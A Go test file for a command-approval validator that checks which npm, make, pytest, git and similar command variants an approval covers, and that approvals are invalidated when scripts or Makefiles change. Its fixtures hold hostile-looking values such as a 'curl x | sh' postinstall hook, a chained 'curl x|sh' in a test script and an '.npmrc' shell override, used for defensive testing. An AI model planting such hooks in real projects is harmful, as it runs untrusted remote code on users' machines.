package validators

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// An approval covers what was asked, no more and no less.
func TestApprovalShapes(t *testing.T) {
	cases := []struct {
		approved string
		same     []string // covered by the approval
		other    []string // ask again
	}{
		{"npm run test", []string{"npm run test --silent", "npm --silent run test", "npm run test --loglevel silent"},
			[]string{"npm run build", "npm run", "npm run test -- --watch", "npm run lint"}},
		{"npm test", []string{"npm test --silent", "npm test -s"}, []string{"npm run test2", "npm start", "npm test -- -u"}},
		{"npm install", []string{"npm install --no-fund", "npm install -q"}, []string{"npm install left-pad", "npm install --save-dev", "npm install --ignore-scripts=false", "npm ci"}},
		{"npm install left-pad", []string{"npm install left-pad --no-audit"}, []string{"npm install left-pad right-pad", "npm install lodash"}},
		// A formatter's paths are what it reads: free; its flags are not.
		{"npx prettier --check src", []string{"npx prettier --check src --quiet", "npx prettier --check src other", "npx prettier --check ."}, []string{"npx prettier --write src", "npx eslint --check src", "npx tsx src"}},
		{"npx tsx script.ts", nil, []string{"npx tsx other.ts", "npx tsx script.ts --flag"}},
		{"node --test test/", []string{"node --test test/a.test.js", "node --test --test-name-pattern=x"}, []string{"node test/a.test.js", "node --test --import ./x.js test/"}},
		{"node bin/cli.js words a.txt", nil, []string{"node bin/cli.js lines a.txt", "node bin/cli.js words b.txt"}},
		{"npm test", []string{"npm run test", "npm t", "npm run-script test --silent"}, []string{"npm run build", "npm test -- --watch"}},
		{"git commit -m one", []string{"git commit -m two", "git commit -mthree", "git commit --quiet -m x"}, []string{"git commit --amend -m x", "git commit -a -m x", "git commit --no-verify -m x"}},
		{"make test", []string{"make test -s", "make -j4 test", "make -j 4 test", "make test --no-print-directory"}, []string{"make build", "make test build", "make test CC=evil", "make -f other.mk test"}},
		{"pytest -q", []string{"pytest", "pytest -v tests/test_a.py", "pytest -k slow -x"}, []string{"pytest -p evil", "pytest --rootdir=/tmp"}},
		{"python3 -m pytest -q", []string{"python3 -m pytest tests/x.py", "python3 -m pytest -v -k fast"}, []string{"python3 -m pip install x", "python3 -m pytest -p plugin", "python3 script.py"}},
		{"python3 tool.py", []string{}, []string{"python3 tool.py --force", "python3 other.py"}},
		{"cargo test", []string{"cargo test -q", "cargo test my_test"}, []string{"cargo run", "cargo test --features x"}},
		{"pip install -e .", []string{"pip install -e . -q"}, []string{"pip install requests", "pip install -e other", "pip uninstall x"}},
	}
	approve := func(cmd string) Approval {
		f := strings.Fields(cmd)
		shape, ok := ShapeOf(canonicalName(f[0]))
		require.True(t, ok, f[0])
		return shape.Approve(profileArgs(f))
	}
	for _, tc := range cases {
		rec := approve(tc.approved)
		assert.True(t, rec.Covers(rec), tc.approved)
		for _, c := range tc.same {
			assert.True(t, rec.Covers(approve(c)), "%q should cover %q (%+v vs %+v)", tc.approved, c, rec, approve(c))
		}
		for _, c := range tc.other {
			assert.False(t, rec.Covers(approve(c)), "%q should not cover %q", tc.approved, c)
		}
	}
}

func canonicalName(n string) string {
	if n == "python3" {
		return "python"
	}
	return n
}

func profileArgs(argv []string) []string {
	if f := ProfileOf(argv[0]).SubcommandArgs; f != nil {
		return f(argv[1:])
	}
	return argv[1:]
}

// A script runner's approval is bound to what decides what runs: the
// script with its pre and post scripts and .npmrc; the Makefile and what
// it includes, read as text.
func TestBindingFollowsTheScript(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
	}
	npm, _ := ShapeOf("npm")
	bind := func(cmd string, sub string) string {
		return Binding(strings.Fields(cmd)[0], filepath.Join(dir, sub), npm.Approve(strings.Fields(cmd)[1:]))
	}
	write("package.json", `{"scripts": {"test": "node --test", "build": "tsc"}}`)
	test := bind("npm run test", "")
	require.NotEmpty(t, test)
	assert.Equal(t, test, bind("npm run test --silent", ""))
	assert.Equal(t, test, bind("npm run test", "src"), "the nearest package.json, from a subdirectory too")
	write("package.json", `{"scripts": {"test": "node --test", "build": "tsc --watch"}}`)
	assert.Equal(t, test, bind("npm run test", ""), "another script's change does not matter")
	for _, change := range []struct{ name, text string }{
		{"package.json", `{"scripts": {"test": "node --test; curl x|sh", "build": "tsc"}}`},
		{"package.json", `{"scripts": {"pretest": "echo hi", "test": "node --test"}}`},
		{"package.json", `{"scripts": {"posttest": "echo hi", "test": "node --test"}}`},
		{".npmrc", "script-shell=/tmp/evil\n"},
	} {
		write(change.name, change.text)
		assert.NotEqual(t, test, bind("npm run test", ""), "%s: %s", change.name, change.text)
	}
	install := Binding("npm", dir, npm.Approve([]string{"install"}))
	assert.NotEqual(t, test, install)
	write("package.json", `{"scripts": {"test": "node --test", "postinstall": "curl x | sh"}}`)
	assert.NotEqual(t, install, Binding("npm", dir, npm.Approve([]string{"install"})), "npm install runs the project's lifecycle scripts")
	assert.Empty(t, Binding("npm", dir, npm.Approve([]string{"pkg", "get", "version"})), "npm pkg runs no script")

	mk, _ := ShapeOf("make")
	mdir := t.TempDir()
	mwrite := func(name, text string) {
		require.NoError(t, os.WriteFile(filepath.Join(mdir, name), []byte(text), 0o644))
	}
	mwrite("Makefile", "include rules.mk\n-include $(HOME)/x.mk\ntest:\n\tgo test ./...\n")
	mwrite("rules.mk", "lint:\n\tgofmt -l .\n")
	before := Binding("make", mdir, mk.Approve([]string{"test"}))
	mwrite("rules.mk", "lint:\n\tgofmt -l .\ntest: evil\n")
	assert.NotEqual(t, before, Binding("make", mdir, mk.Approve([]string{"test"})), "an included file changed")
	after := Binding("make", mdir, mk.Approve([]string{"test"}))
	assert.NotEqual(t, after, Binding("make", mdir, mk.Approve([]string{"-f", "other.mk", "test"})), "another makefile")
}
